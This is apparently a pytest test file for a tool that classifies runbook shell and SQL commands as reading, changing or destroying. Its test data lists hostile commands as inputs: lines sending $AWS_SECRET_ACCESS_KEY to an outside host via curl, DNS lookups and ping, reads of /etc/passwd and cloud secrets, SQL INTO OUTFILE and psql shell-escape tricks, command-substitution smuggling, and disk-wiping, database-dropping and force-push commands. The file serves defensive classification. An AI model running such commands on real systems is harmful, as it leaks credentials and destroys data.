"""What commands of runbooks do: what is known to read, what is known to destroy, and everything else."""

import msgspec
import pytest

from warroom.playbook.model import Step
from warroom.playbook.risk import destroyed, judged, risk_of, sql_risk

READS = r"""
curl https://api.example.com/health
curl -sS -o /dev/null -w '%{http_code}' https://api.example.com/health
curl -s https://api.example.com/metrics | grep http_requests
curl -s $API_URL/health
curl -s "https://$API_HOST/health"
nslookup $API_HOST
ping -c 4 $DB_HOST
df -h | grep /dev/sda
redis-cli config get maxmemory
lsof -nP -iTCP:80 -sTCP:LISTEN
psql $DATABASE_URL -c "SELECT 1"
psql -h $PGHOST -U $PGUSER -d $PGDATABASE -c "SELECT count(*), state FROM pg_stat_activity GROUP BY state;"
psql -l | x
redis-cli ping
redis-cli -u $REDIS_URL ping
redis-cli --tls -h $REDIS_HOST -a "$REDIS_PASSWORD" INFO stats
mysql -h db -e "SHOW PROCESSLIST"
aws ecs describe-services --cluster prod --services api --query 'services[0].[runningCount,`x`]'
aws --profile prod --region eu-west-1 rds describe-db-instances
aws logs tail /ecs/api --since 10m --filter-pattern "ERROR"
aws s3 ls s3://media/
kubectl -n shop get pods -o wide
kubectl logs deploy/api --tail=200
kubectl describe pod api-1 | tail -20
docker ps
docker logs --tail 100 api
docker compose -f prod.yml ps
heroku logs -n 200 -a api
heroku ps -a api
pm2 status
pm2 logs api --lines 100 --nostream
git log --oneline -10
git -C /srv/api log --since="2 hours ago" --oneline
git diff HEAD~5 .env.production
gh run list --limit 5
terraform show
df -h
free -h
uptime
du -sh /var/log/*
ps aux --sort=-rss | head -15
top -b -n 1
top -bn1 | head -20
vmstat 1 5
systemctl status nginx --no-pager
systemctl --failed
journalctl -u api -n 100 --no-pager
journalctl -xeu api
tail -n 100 /var/log/nginx/error.log
tail -100 /var/log/syslog
tail -n 1000 access.log | cut -d ' ' -f 1 | sort | uniq -c | sort -rn | head -20
nslookup api.example.com
dig +short api.example.com
host api.example.com
ping -c 4 8.8.8.8
netstat -an | grep :80 | wc -l
ss -tlnp
cd packages/mobile
"""

CHANGES = r"""
createdb prod
dd if=/dev/sda of=/dev/null
kill -l
kill -0 4711
fdisk -l
rsync -a a/ b/
kafka-topics.sh --bootstrap-server b:9092 --list
npm run migrate:latest
npm run health:check:full
npm run cache:clear:all
npm run deploy:prepare-rollback
heroku restart -a api
heroku ps:scale web=2 -a api
kubectl apply -f deploy.yaml
kubectl get secret db -o yaml
kubectl get pods -w
kubectl logs -f api
aws logs tail /ecs/api --follow
aws logs tail /ecs/api --fol
aws s3api get-object --bucket b --key k out.txt
aws secretsmanager get-secret-value --secret-id db
aws elasticache modify-cache-cluster --cache-node-type cache.r7g.xlarge
aws ecr get-login-password
docker exec api ls
docker logs -f api
docker stats
heroku logs --tail -a api
heroku config -a api
pm2 logs api
tail -f /var/log/syslog
tail -F /var/log/syslog
ping 8.8.8.8
top
top -n 1
less /var/log/syslog
cat /etc/passwd
psql
psql -f dump.sql
psql $DATABASE_URL -c "VACUUM"
psql -c "SELECT 1" -c "SELECT 2"
psql -c "SELECT 1; SELECT 2"
psql -c "$SQL"
psql -c '\! ls'
psql -c 'SELECT ours.lower(name) FROM users'
mysql -e 'SELECT 5--1 INTO OUTFILE "/tmp/x"'
mysql -e 'SELECT 1 /*M! INTO OUTFILE "/tmp/x" */'
mysql -e "SELECT $$ INTO OUTFILE '/tmp/$$'"
redis-cli config get requirepass
redis-cli config get '*'
curl 'https://api.example.com/[1-100000]'
curl dict.example.com:6379/x
curl "https://other.example.com/?$AWS_SECRET_ACCESS_KEY"
curl -H "x: $AWS_SECRET_ACCESS_KEY" https://other.example.com
nslookup $AWS_SECRET_ACCESS_KEY.other.example.com
dig @other.example.com $AWS_SECRET_ACCESS_KEY
ping -c 1 $AWS_SECRET_ACCESS_KEY.other.example.com
kubectl --kubeconfig ./other get pods
kubectl get pods --kubeconfig=./other
kubectl get pods --server=https://other.example.com
aws iot-data get-thing-shadow --thing-name x out
aws appconfig get-configuration --application x out
aws ebs get-snapshot-block --snapshot-id x out
aws ssm get-parameter --name x --with-d
aws --endpoint-url https://other.example.com sqs get-queue-url
aws sqs get-queue-url --endpoint-url=https://other.example.com
gh pr view -cw
free -hs1
lsof -nr5
head /dev/zero
wc /dev/watchdog
grep x /dev/zero
df -h | grep -f /dev/zero
tail /dev/zero
redis-cli
redis-cli set a b
redis-cli monitor
curl -X POST https://api.example.com/webhook
curl -d a=b https://api.example.com
curl -T file https://api.example.com
curl -o out https://api.example.com
curl -O https://api.example.com/a
curl -H @headers https://api.example.com
curl -H 'X-HTTP-Method-Override: DELETE' https://api.example.com
curl -w '%output{out}' https://api.example.com
curl file:///etc/passwd
curl -K config
curl $CURL_OPTS https://api.example.com
git -c core.pager=x log
git log --output=out
git diff --ext-diff
git checkout main
git branch new
journalctl --rotate
journalctl -f
dmesg -c
hostname new
date -s 12:00
sort -o out in
df -h | sort -o out
df -h | sort --compress-program=x
df -h | uniq - out
df -h | tee out
df -h | xargs x
df -h > out
df -h >> out
df -h < in
df -h; uptime
df -h && uptime
df -h || uptime
df -h &
(df -h)
df $(uptime)
df `uptime`
df "$(uptime)"
df "`uptime`"
df <(uptime)
df $'-h'
df ${X:-$(uptime)}
df -h |& grep x
df -h | | grep x
df -h |
{ df; }
! df
A=b df
LD_PRELOAD=x df
./df
/tmp/df
sudo df
env df
find . -name x
awk '{print $1}' file
grep x -*
ls {-a,-b}
top -b
vmstat 1
ssh host df
echo "fixed" | ./scripts/notify-team.sh
export A=b
unknown --help
"""

DESTROYS = r"""
dropdb prod
dropdb --if-exists prod
sudo -u postgres dropuser app
mkfs /dev/sdb
mkfs.ext4 -F /dev/sdb1
wipefs -a /dev/sdb
dd if=/dev/zero of=/dev/sdb bs=1M
truncate -s 0 /var/log/app.log
shutdown -h now
sudo reboot
init 6
kill -9 4711
sudo kill -9 $(pgrep node)
fuser -k 80/tcp
lvremove vg/data
sgdisk --zap-all /dev/sdb
pg_ctl stop -D /data
mysqladmin -u root shutdown
kafka-topics.sh --bootstrap-server b:9092 --delete --topic orders
rsync -a --delete a/ b/
gsutil rm -r gs://shop-backups
etcdctl del /config
redis-cli FLUSHDB
redis-cli -h cache flushall
redis-cli del sessions
psql -c "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE state = 'idle'"
psql -c "DROP TABLE users"
psql -c "DELETE FROM users"
psql -c "TRUNCATE events"
docker system prune -a
docker volume prune
docker rm -f api
docker compose down -v
find /var/log -name '*.log' -mtime +7 -delete
find /tmp -mtime +1 -exec rm {} \;
rm -r /tmp/x
rm -rf /tmp/x
sudo rm -rf /tmp/x
ls; rm x
ls $(rm x)
ls "$(rm x)"
ls `rm x`
ls | xargs rm
ssh host "rm -rf /srv"
bash -c 'rm -rf /srv'
iptables -A INPUT -s MALICIOUS_IP -j DROP
iptables -F
heroku rollback -a api
vercel rollback <deployment-url>
netlify deploy:restore <deploy-id>
./scripts/rollback-production.sh
npm run migrate:rollback --workspace=backend
kubectl rollout undo deployment/api
helm rollback api 3
heroku ps:scale web=0 -a api
kubectl scale deploy/api --replicas=0
kubectl delete pod api-1
kubectl drain node-1
aws ecs update-service --cluster prod --service api --force-new-deployment
aws rds modify-db-instance --db-instance-identifier prod --max-connections 200 --apply-immediately
aws ec2 terminate-instances --instance-ids i-1
aws s3 rm s3://media/a
git revert HEAD
git reset --hard HEAD~1
git push --force
git push -f origin main
git clean -fd
terraform apply
terraform destroy
npm run db:connections:kill-idle
npm run feature:disable -- --feature=stripe-payments
npm run config:set -- --key=payment_provider --value=fallback
heroku config:set A=b
pm2 delete api
kill -9 123
systemctl stop nginx
reboot
journalctl --vacuum-size=100M
> /var/log/nginx/access.log
truncate -s 0 /var/log/x
dd if=/dev/zero of=/dev/sda
"""


def lines(text: str) -> list[str]:
    return [line for line in text.strip().splitlines() if line != "psql -l | x"]


@pytest.mark.parametrize("command", lines(READS))
def test_what_is_known_to_change_nothing_and_to_end_reads(command: str) -> None:
    assert risk_of(command) == risk_of(command, "bash") == "reads"
    assert destroyed(command) == ""


@pytest.mark.parametrize("command", lines(CHANGES))
def test_whatever_is_not_known_changes(command: str) -> None:
    assert risk_of(command) == "changes"


@pytest.mark.parametrize("command", lines(DESTROYS))
def test_what_is_known_to_take_something_away_destroys_and_says_what(command: str) -> None:
    assert risk_of(command) == "destroys"
    assert destroyed(command)


def test_a_block_is_as_bad_as_the_worst_of_its_lines() -> None:
    assert risk_of("# look\ndf -h\n\nfree -h\n") == "reads"
    assert risk_of("df -h\nnpm run x") == "changes"
    assert risk_of("df -h\nrm -rf x\nuptime") == "destroys"


def test_a_line_goes_on_behind_a_backslash_and_behind_a_pipe() -> None:
    assert risk_of("aws ecs describe-services \\\n  --cluster prod") == "reads"
    assert risk_of("netstat -an |\n  grep :80") == "reads"
    assert risk_of('psql -c "SELECT 1\n  FROM pg_stat_activity"') == "reads"


def test_what_a_heredoc_holds_is_seen_and_never_reads() -> None:
    assert risk_of("psql <<EOF\nSELECT 1;\nEOF") == "changes"
    assert risk_of("psql <<EOF\nDROP TABLE users;\nEOF\ndf -h") == "destroys"


@pytest.mark.parametrize("language", ["sql", "typescript", "yaml", "json", "text", "python", "slack", "mermaid", "SQL"])
def test_what_no_shell_runs_is_shown(language: str) -> None:
    assert risk_of("rm -rf /", language) == "shown"


def test_nothing_is_shown() -> None:
    assert risk_of("") == risk_of(" \n") == "shown"
    assert risk_of("# only a comment") == "changes"


def test_of_a_transcript_what_was_typed_is_judged() -> None:
    assert risk_of("$ df -h\n/dev/sda1 99%\n$ free -h", "console") == "reads"
    assert risk_of("$ rm -rf x\nremoved", "shell-session") == "destroys"


@pytest.mark.parametrize(
    ("sql", "risk"),
    [
        ("SELECT 1", "reads"),
        ("select count(*) from pg_stat_activity where state = 'DELETE FROM x' -- drop table", "reads"),
        ("EXPLAIN SELECT * FROM a", "reads"),
        ("SHOW max_connections;", "reads"),
        ("SELECT pg_size_pretty(pg_database_size('shop'))", "reads"),
        ("EXPLAIN ANALYZE DELETE FROM a", "destroys"),
        ("EXPLAIN ANALYZE SELECT 1", "changes"),
        ("SELECT * INTO b FROM a", "changes"),
        ("SELECT * FROM a FOR UPDATE", "changes"),
        ("SELECT purge_all()", "changes"),
        ("SELECT pg_reload_conf()", "changes"),
        ('SELECT "purge_all"()', "changes"),
        ("SELECT pg_catalog.setval('a', 1)", "changes"),
        ("WITH gone AS (DELETE FROM a RETURNING *) SELECT * FROM gone", "destroys"),
        ("SELECT 1; UPDATE a SET b = 1", "changes"),
        ("UPDATE a SET b = 1", "changes"),
        ("SELECT 'unclosed", "changes"),
        ("SELECT 1 /*! INTO OUTFILE '/tmp/x' */", "changes"),
        ("TRUNCATE a", "destroys"),
        ("SELECT pg_terminate_backend(1)", "destroys"),
        ("""SELECT 1 AS "'", pg_terminate_backend(1) AS "'" """, "destroys"),
        ("""SELECT 1 AS "'", purge_all() AS "'" """, "changes"),
        ("SELECT 1 AS a$$, pg_terminate_backend(1) AS b$$", "destroys"),
        ("SELECT 1 AS a$$, purge_all() AS b$$", "changes"),
        ("SELECT 1 -- \r, purge_all()", "changes"),
        ("SELECT 1 /* /* */ ' */, purge_all() /* ' */", "changes"),
        ("SELECT 1 # '\nINTO OUTFILE '/tmp/x' #'", "changes"),
        ("SELECT ours.count(*) FROM a", "changes"),
        ("SELECT ours . count (*) FROM a", "changes"),
        ('SELECT ours."count"(*) FROM a', "changes"),
        ("SELECT pg_catalog.pg_size_pretty(1)", "reads"),
        ("SELECT a.state, count(*) FROM pg_stat_activity a\r\nWHERE a.pid IN (1, 2) -- ours\r\nGROUP BY 1", "reads"),
        ('SELECT "update" FROM "my-table" /* a * b / c */', "reads"),
        ("", "changes"),
    ],
)
def test_sql_reads_only_where_it_asks_and_calls_nothing_unknown(sql: str, risk: str) -> None:
    assert sql_risk(sql) == risk


def test_sql_that_is_shown_still_tells_what_it_would_destroy() -> None:
    assert destroyed("DELETE FROM users", "sql")
    assert destroyed("SELECT 1", "sql") == ""


def test_a_step_is_judged_by_its_command_and_by_nothing_else() -> None:
    step = judged(Step(title="t", run="kubectl logs -f $POD_NAME", stage="verify"))
    assert step == Step(
        title="t",
        run="kubectl logs -f $POD_NAME",
        stage="verify",
        risk="changes",
        placeholders=("$POD_NAME",),
        endless=True,
    )
    words = Step(words="call them")
    assert judged(words) is words
    assert judged(msgspec.structs.replace(step, run="psql", placeholders=("x",))).terminal
